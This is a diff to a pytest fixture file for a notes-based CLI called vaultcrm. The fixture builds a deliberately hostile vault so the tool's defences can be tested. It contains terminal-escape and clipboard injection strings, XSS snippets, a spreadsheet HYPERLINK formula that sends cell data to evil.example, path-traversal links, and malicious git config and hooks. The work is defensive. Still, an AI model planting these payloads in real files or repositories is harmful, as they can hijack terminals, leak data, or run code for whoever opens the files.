@@ -6,7 +6,6 @@ import os
 import subprocess
 import sys
 import sysconfig
-from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
@@ -16,13 +15,15 @@ from click.testing import CliRunner, Result
 
 from vaultcrm.cli import cli
 
+# Windows makes no symbolic links for everybody, and has no terminal of this kind.
+collect_ignore_glob = ["test_*"] if os.name == "nt" else []
 REPOSITORY = Path(__file__).resolve().parents[2]
 SECRET = "the-secret-of-the-house"
 # What a terminal would obey: a title, a colour without end, the clipboard, a C1 control, a turned direction, a bell, a return.
 NASTY = "\x1b]0;owned\x07\x1b[31m\x1b]52;c;b3duZWQ=\x07\x9b2J\u202e\u2066\r\x08"
 IN_YAML = r"\e]0;owned\a\e[31m\e]52;c;b3duZWQ=\a\x9b2J\u202e\u2066\r\b"
 LIVE = "<script>alert(1)</script><img src=x onerror=alert(1)>"
-FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 SYSTEM = ("/usr", "/lib", "/lib64", "/bin", "/proc", "/dev", "/sys", "/etc/localtime", "/etc/timezone", "/etc/mime.types")
 
 SETTINGS = f"""\
@@ -213,11 +214,21 @@ Dear Dana,
 {NASTY} {LIVE} teh teh [[../../outside/secret.txt]]
 """
 
-RUNS = 'import os, pathlib\npathlib.Path(os.environ["RAN"]).mkdir(exist_ok=True)\npathlib.Path(os.environ["RAN"], "{}").touch()\n'
+RUNS = (
+    'import os, pathlib\npathlib.Path(os.environ["RAN"]).mkdir(exist_ok=True)\npathlib.Path(os.environ["RAN"], "{}").touch()\n'
+)
 SCRIPT = '#!/bin/sh\nmkdir -p "$RAN"; touch "$RAN/{}"; cat 2>/dev/null\n'
 PROGRAMS = ("git", "git.exe", "vaultcrm.bat", "hook", "pbcopy", "xclip", "tmux", "open", "xdg-open", "sh")
 MODULES = ("click", "yaml", "sitecustomize", "usercustomize", "icalendar", "holidays", "watchdog", "jinja2", "typst", "tomllib")
-HOOKS = ("pre-commit", "commit-msg", "post-commit", "prepare-commit-msg", "post-index-change", "pre-push", "reference-transaction")
+HOOKS = (
+    "pre-commit",
+    "commit-msg",
+    "post-commit",
+    "prepare-commit-msg",
+    "post-index-change",
+    "pre-push",
+    "reference-transaction",
+)
 
 GIT = {
     "core.fsmonitor": "{hook} fsmonitor",
@@ -246,7 +257,7 @@ GIT = {
 
 @dataclass
 class Stranger:
-    """The vault, the house around it, and what came of a command: ``seen`` outside, ``started`` programs, ``called`` addresses."""
+    """The vault and the house around it; of the last command what was ``seen`` outside, ``started``, ``called``."""
 
     vault: Path
     home: Path
@@ -259,7 +270,13 @@ class Stranger:
 
     def run(self, *words: str, text: str | None = None) -> Result:
         """Type a command in the vault's folder."""
-        return CliRunner().invoke(cli, ["--today", "2026-11-20", "--color", "always", *words], input=text)
+        for noted in (self.seen, self.started, self.called):
+            noted.clear()
+        _WATCHED.append(self)
+        try:
+            return CliRunner().invoke(cli, ["--today", "2026-11-20", "--color", "always", *words], input=text)
+        finally:
+            _WATCHED.remove(self)
 
     def state(self) -> dict[str, bytes]:
         """All that lies outside, to see whether anything was written there."""
@@ -283,9 +300,9 @@ def _notes(vault: Path) -> None:
         vault,
         {
             "vaultcrm.toml": SETTINGS,
-            f"contacts/Dana Lee.md": DANA,
+            "contacts/Dana Lee.md": DANA,
             "contacts/Sam Roe.md": SAM,
-            f"contacts/\x1b[31mred\u202e.md": "---\ntype: contact\nname: [\n---\n",
+            "contacts/\x1b[31mred\u202e.md": "---\ntype: contact\nname: [\n---\n",
             "interviews/2026-11-17 Acme.md": INTERVIEW,
             "jobs/Acme Staff.md": JOB,
             "playbooks/nasty.md": PLAYBOOK,
@@ -329,19 +346,23 @@ def _links(vault: Path, outside: Path) -> None:
 def _repository(vault: Path, outside: Path) -> None:
     """A clone that was handed over with its ``.git``."""
     subprocess.run(["git", "init", "-q", str(vault)], check=True)
-    for key, value in GIT.items():
-        hook = f"{vault.as_posix()}/hook"
-        subprocess.run(["git", "config", key, value.format(hook=hook, outside=outside)], cwd=vault, check=True)
+    with (vault / ".git/config").open("a", encoding="utf-8") as settings:
+        for key, value in GIT.items():
+            section, _, last = key.rpartition(".")
+            name, _, part = section.partition(".")
+            said = value.format(hook=f"{vault.as_posix()}/hook", outside=outside)
+            quoted = f' "{part}"' if part else ""
+            settings.write(f'[{name}{quoted}]\n{last} = "{said}"\n')
     (vault / ".git" / "info").mkdir(exist_ok=True)
     (vault / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil merge=vaultcrm\n")
 
 
 @pytest.fixture
-def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stranger]:
+def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stranger:
     """A stranger's vault, the current folder of whoever looks at it; what happens outside is written down."""
     vault, outside, home = tmp_path / "vault", tmp_path / "outside", tmp_path / "home"
     names = ("secret.txt", "secret.md", "inbox.md", "today.md", "linked.ics", "people/Eve Mallory.md", "people/language.toml")
-    write(outside, {name: f"---\ntype: contact\n---\n- {SECRET}\n" for name in names})
+    write(outside, dict.fromkeys(names, f"---\ntype: contact\n---\n- {SECRET}\n"))
     _notes(vault)
     _links(vault, outside)
     _repository(vault, outside)
@@ -350,10 +371,7 @@ def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Strang
     for name, value in {"HOME": home, "VAULTCRM_STATE": own[0], "VAULTCRM_CACHE": own[1], "RAN": tmp_path / "ran"}.items():
         monkeypatch.setenv(name, str(value))
     monkeypatch.chdir(vault)
-    found = Stranger(vault, home, outside, tmp_path / "ran", own)
-    _WATCHED.append(found)
-    yield found
-    _WATCHED.remove(found)
+    return Stranger(vault, home, outside, tmp_path / "ran", own)
 
 
 _WATCHED: list[Stranger] = []
